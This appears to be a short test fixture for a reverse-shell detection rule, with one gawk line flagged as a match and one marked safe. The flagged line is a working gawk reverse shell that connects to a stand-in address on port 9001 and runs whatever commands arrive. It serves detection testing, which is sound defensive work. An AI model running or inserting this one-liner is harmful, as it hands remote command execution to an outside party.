# ruleid: shells-reverse-other-languages
gawk 'BEGIN { far = "/inet/tcp/0/192.0.2.1/9001"; while ((far |& getline line) > 0) { while ((line | getline out) > 0) print out |& far } }'

# ok: shells-reverse-other-languages
gawk 'BEGIN { far = "/inet/tcp/0/localhost/13"; far |& getline line; print line }'
